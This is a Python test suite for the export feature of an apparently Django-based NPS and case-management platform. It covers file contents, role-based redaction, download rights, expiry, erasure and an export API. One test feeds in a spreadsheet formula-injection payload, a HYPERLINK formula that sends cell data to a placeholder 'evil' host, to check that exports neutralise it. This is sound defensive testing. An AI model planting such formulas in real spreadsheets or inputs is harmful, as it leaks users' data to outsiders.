"""Files to take away: what is in them, whose eyes they are made for, how long they stay."""

from __future__ import annotations

import json
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.http import QueryDict
from django.test import Client
from django.utils import timezone

from closeloop import actions as cases
from closeloop.models import RootCause
from nps_platform.customers.actions.erasure import erase_customer
from nps_platform.customers.models import Customer, RevenueEntry
from nps_platform.exports import actions
from nps_platform.exports.models import Export
from nps_platform.exports.tasks import sweep
from nps_platform.tenancy.api_keys import make_api_key
from nps_platform.tenancy.models import AuditEntry, Due, Membership, Organization
from nps_platform.tenancy.roles import Role
from nps_platform.tenancy.scope import entered
from tests.closeloop.conftest import Answers, Opens
from tests.conftest import Cast
from tests.exports.conftest import Sheet, read_csv, read_xlsx

HOME = "/o/andina/exports/"


def take(client: Client, kind: str, query: str = "", *, format: str = "csv") -> Sheet:  # noqa: A002
    """Asked for on the page and downloaded."""
    page = {"timelines": "cases", "notes": "cases"}.get(kind, kind)
    asked = client.post(f"{HOME}new/{page}/{query}", {"kind": kind, "format": format})
    assert asked.status_code == 302, asked.content.decode()
    answer: Any = client.get(asked["Location"] + "file/")
    assert answer.status_code == 200
    assert answer["Content-Disposition"].endswith(f'.{format}"')
    return read_csv(answer) if format == "csv" else read_xlsx(answer)


@pytest.fixture
def alicia(cast: Cast) -> Client:
    return cast.sign_in(cast.alicia)


def test_cases_with_their_people_and_times(alicia: Client, opens: Opens, cast: Cast) -> None:
    case = opens(2, "Sigo sin internet")
    cases.assign(case, assignee=cast.bruno, by=cast.alicia)
    RevenueEntry.objects.create(
        customer_ref="C1", customer=case.customer, period=date(2026, 3, 1), amount=Decimal("70.5"), currency="EUR"
    )
    sheet = take(alicia, "cases")
    (row,) = (dict(zip(sheet.head, row, strict=True)) for row in sheet.rows)
    told = {"case": str(case.number), "score": "2", "class": "detractor", "comment": "Sigo sin internet"}
    told |= {"customer": "C1", "name": "Mercedes Aliaga", "email": "mercedes@correo.example", "assignee": "Bruno Salas"}
    told |= {"revenue_12_months": "70.50", "currency": "EUR", "resolved": ""}
    assert {name: row[name] for name in told} == told
    assert row["opened"][:10] == f"{timezone.localtime(case.opened_at):%Y-%m-%d}"


def test_money_stands_only_in_the_file_of_who_sees_money(cast: Cast, opens: Opens) -> None:
    opens()
    assert "revenue_12_months" in take(cast.sign_in(cast.alicia), "cases").head
    head = take(cast.sign_in(cast.bruno), "cases").head
    assert "revenue_12_months" not in head
    assert "name" in head


def test_the_list_as_it_is_narrowed(alicia: Client, opens: Opens, answers: Answers, cast: Cast) -> None:
    one, two = opens(2, "Sin internet"), opens(1, "Factura doble", customer=Customer.objects.create(external_id="C2"))
    cases.resolve(one, root_cause=RootCause.objects.get(key="billing"), outcome="solved", by=cast.alicia)
    assert take(alicia, "cases", "?view=open").column("case") == [str(two.number)]
    assert take(alicia, "cases", "?view=resolved").column("root_cause") == ["billing"]
    assert take(alicia, "cases", "?view=open&q=internet").rows == []
    assert sorted(take(alicia, "cases").column("case")) == [str(one.number), str(two.number)]
    assert "1 row" in alicia.get(f"{HOME}new/cases/?view=open").content.decode()


def test_timelines_and_notes(alicia: Client, opens: Opens, cast: Cast) -> None:
    case = opens()
    cases.add_note(case, text="Llamar mañana", by=cast.bruno)
    cases.resolve(case, root_cause=RootCause.objects.get(key="billing"), outcome="solved", by=cast.bruno)
    timeline = take(alicia, "timelines")
    assert timeline.column("kind") == ["opened", "note", "resolved"]
    assert timeline.column("text")[1] == "Llamar mañana"
    assert timeline.column("details")[2] == "root_cause: billing; outcome: solved"
    notes = take(alicia, "notes")
    assert (notes.column("who"), notes.column("text")) == (["Bruno Salas"], ["Llamar mañana"])


@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_what_customers_write_never_runs_as_a_formula(alicia: Client, opens: Opens, format_: str) -> None:
    evil = '=HYPERLINK("https://evil.example?"&A1,"click")'
    opens(2, evil)
    sheet = take(alicia, "cases", format=format_)
    (cell,) = sheet.column("comment")
    if format_ == "csv":
        assert cell == f"'{evil}"
    else:
        assert cell == evil
        assert b"<f>" not in sheet.raw
        assert b"<hyperlink" not in sheet.raw
        assert b't="inlineStr"' in sheet.raw


def test_a_spreadsheet_holds_what_the_csv_holds(alicia: Client, opens: Opens) -> None:
    opens(2, "Año ñandú <b>&")
    as_csv, as_xlsx = take(alicia, "cases"), take(alicia, "cases", format="xlsx")
    assert as_xlsx.head == as_csv.head
    assert as_xlsx.column("comment") == as_csv.column("comment") == ["Año ñandú <b>&"]
    assert take(alicia, "notes", format="xlsx").head == ["case", "at", "who", "text"]


def test_answers_are_as_redacted_as_on_the_page(cast: Cast, answers: Answers) -> None:
    for score in (10, 9, 8, 7, 6):
        answers(score, "Soy Mercedes, mercedes@correo.example")
    whole = take(cast.sign_in(cast.alicia), "responses")
    assert whole.column("customer") == ["Mercedes Aliaga"] * 5
    some = take(cast.sign_in(cast.member(Role.COLLABORATOR)), "responses")
    assert "customer" not in some.head
    assert len(some.rows) == 5
    assert not any("ercedes" in "".join(row) for row in some.rows)


def test_few_answers_are_hidden_from_who_may_not_see_whose_they_are(cast: Cast, answers: Answers) -> None:
    for score in (10, 9):
        answers(score, "Bien")
    assert take(cast.sign_in(cast.member(Role.COLLABORATOR)), "responses").rows == []
    assert len(take(cast.sign_in(cast.alicia), "responses").rows) == 2


def test_answers_narrowed_by_class_and_beyond_one_portion(
    alicia: Client, answers: Answers, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("nps_platform.exports.tables.PORTION", 2)
    for score in (10, 10, 9, 9, 9, 2, 2):
        answers(score, f"Nota {score}")
    assert len(take(alicia, "responses").rows) == 7
    assert take(alicia, "responses", "?nps_class=detractor").column("score") == ["2", "2"]


def test_customers_and_revenue(cast: Cast, alicia: Client, mercedes: Customer) -> None:
    mercedes.attributes = {"plan": "Fibra"}
    mercedes.save()
    RevenueEntry.objects.create(
        customer_ref="C1", customer=mercedes, period=date(2026, 3, 1), amount=Decimal("70.35"), currency="EUR"
    )
    RevenueEntry.objects.create(customer_ref="X9", period=date(2026, 3, 1), amount=7, currency="EUR")
    assert take(alicia, "customers").column("email") == ["mercedes@correo.example"]
    finance = cast.sign_in(cast.member(Role.FINANCE))
    sheet = take(finance, "money")
    assert sheet.column("customer") == ["C1", "X9"]
    assert sum(map(Decimal, sheet.column("amount"))) == Decimal("77.35")
    assert sheet.column("matched") == ["1", "0"]
    assert finance.get(f"{HOME}new/customers/").status_code == 403
    assert cast.sign_in(cast.bruno).get(f"{HOME}new/money/").status_code == 403


def test_who_asked_and_the_owner_may_take_it_and_nobody_else(cast: Cast, opens: Opens) -> None:
    opens()
    bruno = cast.sign_in(cast.bruno)
    made = actions.ask_for("cases", format="csv", query=QueryDict(""), by=cast.bruno)
    one = f"{HOME}{made.pk}/"
    assert bruno.get(f"{one}file/").status_code == 200
    assert cast.sign_in(cast.alicia).get(f"{one}file/").status_code == 200
    assert cast.sign_in(cast.member(Role.MANAGER)).get(f"{one}file/").status_code == 403
    assert cast.sign_in(cast.carla).get(f"{one}file/").status_code == 404
    owners = cast.sign_in(cast.alicia).get(HOME).content.decode()
    assert "Bruno Salas" in owners
    assert "No exports yet" in cast.sign_in(cast.member(Role.MANAGER)).get(HOME).content.decode()
    actions_told = set(AuditEntry.objects.filter(target_kind="export").values_list("action", "actor__user__name"))
    assert actions_told == {
        ("export.asked", "Bruno Salas"),
        ("export.downloaded", "Bruno Salas"),
        ("export.downloaded", "Alicia Robles"),
    }


def test_who_lost_the_right_has_no_file_any_more(cast: Cast, opens: Opens) -> None:
    opens()
    made = actions.ask_for("cases", format="csv", query=QueryDict(""), by=cast.bruno)
    Membership.objects.filter(pk=cast.bruno.pk).update(role=Role.FINANCE)
    assert cast.sign_in(cast.bruno).get(f"{HOME}{made.pk}/file/").status_code == 403


def test_a_large_one_is_made_in_the_background_with_its_progress(
    alicia: Client, opens: Opens, cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    opens()
    monkeypatch.setattr(actions, "AT_ONCE", 0)
    asked = alicia.post(f"{HOME}new/cases/", {"kind": "cases", "format": "csv"})
    one = asked["Location"]
    page = alicia.get(one).content.decode()
    assert "Being made" in page
    assert alicia.get(f"{one}file/").status_code == 410
    assert "hx-get" in alicia.get(one, headers={"HX-Request": "true"}).content.decode()
    sweep()
    assert alicia.get(one, headers={"HX-Request": "true"})["HX-Refresh"] == "true"
    assert "The file is ready" in alicia.get(one).content.decode()
    assert len(read_csv(alicia.get(f"{one}file/")).rows) == 1


def test_one_whose_worker_died_is_made_again(inside: Organization, cast: Cast, mercedes: Customer) -> None:
    made = Export.objects.create(kind="customers", asked_by=cast.alicia, rows_done=400, rows_total=1)
    Due.objects.create(organization=inside, kind=actions.DUE, due_at=timezone.now())
    Export.objects.update(heartbeat_at=timezone.now())
    sweep()
    assert Export.objects.get().state == "working"  # a worker is at it
    Export.objects.update(heartbeat_at=timezone.now() - timedelta(seconds=61))
    Due.objects.update(due_at=timezone.now())
    sweep()
    made.refresh_from_db()
    assert (made.state, made.rows_done, made.error) == ("done", 1, "")


def test_rights_are_asked_again_when_the_file_is_made(inside: Organization, cast: Cast) -> None:
    made = Export.objects.create(kind="customers", asked_by=cast.alicia)
    Due.objects.create(organization=inside, kind=actions.DUE, due_at=timezone.now())
    Membership.objects.filter(pk=cast.alicia.pk).update(is_active=False)
    sweep()
    made.refresh_from_db()
    assert (made.state, made.error, bool(made.file)) == ("failed", "no_right", False)


def test_after_seven_days_the_file_is_gone(alicia: Client, cast: Cast, mercedes: Customer, own_files: Path) -> None:
    made = actions.ask_for("customers", format="xlsx", query=QueryDict(""), by=cast.alicia)
    assert timedelta(days=6.9) < made.expires_at - timezone.now() < timedelta(days=7)  # type: ignore[operator]
    (file,) = (path for path in own_files.rglob("*") if path.is_file())
    assert file.stat().st_mode & 0o777 == 0o600
    Export.objects.update(expires_at=timezone.now())
    gone = alicia.get(f"{HOME}{made.pk}/file/")
    assert (gone.status_code, "no longer there" in gone.content.decode()) == (410, True)
    Due.objects.update(due_at=timezone.now())
    sweep()
    assert not [path for path in own_files.rglob("*") if path.is_file()]
    assert Export.objects.get().state == "gone"
    assert "No longer there" in alicia.get(HOME).content.decode()


def test_deleting_takes_the_file_away(alicia: Client, cast: Cast, mercedes: Customer, own_files: Path) -> None:
    made = actions.ask_for("customers", format="csv", query=QueryDict(""), by=cast.alicia)
    alicia.post(f"{HOME}{made.pk}/delete/")
    assert not [path for path in own_files.rglob("*") if path.is_file()]
    assert alicia.get(f"{HOME}{made.pk}/file/").status_code == 410


def test_an_erased_customer_is_in_no_file(alicia: Client, cast: Cast, mercedes: Customer, own_files: Path) -> None:
    actions.ask_for("customers", format="csv", query=QueryDict(""), by=cast.alicia)
    erase_customer(mercedes, by=cast.alicia)
    assert not [path for path in own_files.rglob("*") if path.is_file()]
    assert take(alicia, "customers").rows == []


def test_another_organisation_has_nothing_of_it(cast: Cast, mercedes: Customer) -> None:
    with entered(cast.other):
        made = actions.ask_for("customers", format="csv", query=QueryDict(""), by=cast.carla)
        assert made.rows_total == 0
    assert cast.sign_in(cast.alicia).get(f"{HOME}{made.pk}/").status_code == 404


def test_odd_requests_are_answered_in_words(alicia: Client) -> None:
    assert alicia.get(f"{HOME}new/nothing/").status_code == 404
    assert alicia.get(f"{HOME}?before=zz").status_code == 200
    wrong = alicia.post(f"{HOME}new/cases/", {"kind": "customers", "format": "pdf"})
    assert wrong.status_code == 422
    assert alicia.get(f"{HOME}new/responses/?period=soon&survey=99&nps_class=x").status_code == 200


def test_a_program_asks_for_one_and_downloads_it(cast: Cast, opens: Opens) -> None:
    opens(2, "Sigo sin internet")
    program = Client(headers={"Authorization": f"Bearer {make_api_key(cast.organization, name='BI', by=None)}"})

    def ask(body: dict[str, Any]) -> Any:
        return program.post("/api/v1/exports", json.dumps(body), content_type="application/json")

    made = ask({"kind": "cases", "format": "csv", "view": "open"})
    assert made.status_code == 202
    told = program.get(f"/api/v1/exports/{made.json()['id']}").json()
    assert (told["state"], told["rows_done"], told["asked_by"]) == ("done", 1, "API: BI")
    sheet = read_csv(program.get(told["url"]))
    assert sheet.column("comment") == ["Sigo sin internet"]
    for kind in Export.Kind.values:
        for format_ in Export.Format.values:
            assert ask({"kind": kind, "format": format_}).status_code == 202, kind
    assert {row["state"] for row in program.get("/api/v1/exports").json()["results"]} == {"done"}
    assert ask({"kind": "responses", "survey": 99}).json()["errors"][0]["field"] == "survey"
    assert ask({"kind": "secrets"}).json()["errors"][0]["field"] == "kind"
    assert program.delete(f"/api/v1/exports/{told['id']}").status_code == 204
    gone = program.get(f"/api/v1/exports/{told['id']}/file")
    assert gone.status_code == 409
    assert program.get(f"/api/v1/exports/{told['id']}").json()["url"] is None
